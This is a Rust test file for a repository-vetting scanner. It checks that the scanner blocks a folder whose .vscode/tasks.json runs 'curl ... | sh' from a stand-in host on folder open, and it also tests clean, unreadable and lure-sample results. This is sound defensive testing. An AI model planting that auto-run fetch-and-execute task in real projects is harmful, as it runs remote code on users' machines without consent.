//! `vet` from the command line: a zip from a "recruiter", from the download to the sentence that says what would have happened.

use std::{fs, path::Path};

use serde_json::Value;
use tracehound_testkit::shared_data;

use crate::{
    schemas::has_form,
    screen::{text, tracehound},
};

fn write(folder: &Path, name: &str, content: &str) {
    let file = folder.join(name);
    fs::create_dir_all(file.parent().expect("a folder")).expect("made");
    fs::write(file, content).expect("written");
}

#[test]
fn a_test_that_runs_something_on_opening_is_blocked_with_the_line_that_does_it() {
    let data = tempfile::tempdir().expect("folder");
    let sent = data.path().join("test");
    let task = r#"{ "tasks": [ {
        "label": "lint", "type": "shell", "command": "curl -s https://lint.invalid/i.sh | sh",
        "runOptions": { "runOn": "folderOpen" } } ] }"#;
    write(&sent, ".vscode/tasks.json", task);
    let sarif = data.path().join("vet.sarif");
    let (path, log) = (sent.to_string_lossy().into_owned(), sarif.to_string_lossy().into_owned());
    let output = tracehound(data.path(), &["vet", "repo", &path, "--sarif", &log], "");
    let told = text(&output);
    assert_eq!(output.status.code(), Some(20), "{told}");
    assert!(
        told.starts_with("BLOCK  Do not open it. Opening the folder fetches a program and runs it"),
        "{told}"
    );
    assert!(told.contains(".vscode/tasks.json:2") && told.contains("hxxps://lint[.]invalid/i.sh"), "{told}");
    let log: Value = serde_json::from_str(&fs::read_to_string(sarif).expect("written")).expect("JSON");
    assert_eq!(log["version"], "2.1.0");
    let first = &log["runs"][0]["results"][0];
    assert_eq!((&first["ruleId"], &first["level"]), (&"V-EXEC-01".into(), &"error".into()));
    has_form("vet-repo", &tracehound(data.path(), &["vet", "repo", &path, "--output", "jsonl"], ""));
}

#[test]
fn what_was_not_read_is_not_clean_and_what_was_is_no_promise() {
    let data = tempfile::tempdir().expect("folder");
    let sent = data.path().join("sent");
    write(&sent, "notes.md", "# Notes\n");
    let path = sent.to_string_lossy().into_owned();
    let clean = tracehound(data.path(), &["vet", "repo", &path], "");
    assert_eq!(clean.status.code(), Some(0), "{}", text(&clean));
    assert!(text(&clean).starts_with("NOTHING FOUND") && text(&clean).contains("no promise"));
    fs::write(sent.join("inner.7z"), b"7z\xbc\xaf\x27\x1c\0\0").expect("written");
    let unread = tracehound(data.path(), &["vet", "repo", &path], "");
    assert_eq!(unread.status.code(), Some(30), "{}", text(&unread));
    assert!(text(&unread).contains("7z is not opened"), "{}", text(&unread));
    let empty = data.path().join("empty");
    fs::create_dir(&empty).expect("made");
    let nothing = tracehound(data.path(), &["vet", "repo", &empty.to_string_lossy()], "");
    assert_eq!(nothing.status.code(), Some(30), "{}", text(&nothing));
}

#[test]
fn a_lure_of_the_sample_is_told_in_one_sentence() {
    let Some(lure) = shared_data("vet/sample/lures/D10.zip") else { return };
    let data = tempfile::tempdir().expect("folder");
    let output = tracehound(data.path(), &["vet", "repo", &lure.to_string_lossy()], "");
    assert_eq!(output.status.code(), Some(20));
    let first = text(&output).lines().next().expect("a line").to_owned();
    assert_eq!(
        first,
        "BLOCK  Do not open it. Opening the folder fetches a program and runs it (postCreateCommand)."
    );
}

/// Parsers go as deep as their input, on a stack of 512 MiB of addresses; a container may give less.
#[test]
fn a_machine_that_gives_no_stack_is_an_error_and_no_answer() {
    let data = tempfile::tempdir().expect("folder");
    let sent = data.path().join("sent");
    write(&sent, "notes.md", "# Notes\n");
    let output = std::process::Command::new("sh")
        .args(["-c", "ulimit -v 512000; exec \"$0\" vet repo \"$1\"", env!("CARGO_BIN_EXE_tracehound")])
        .arg(&sent)
        .env("TRACEHOUND_CONFIG", "")
        .env("TRACEHOUND_DATA", data.path())
        .output()
        .expect("sh runs");
    let told = String::from_utf8_lossy(&output.stderr);
    assert_eq!(output.status.code(), Some(1), "{told}");
    assert!(output.stdout.is_empty() && told.contains("no thread could be started"), "{told}");
}
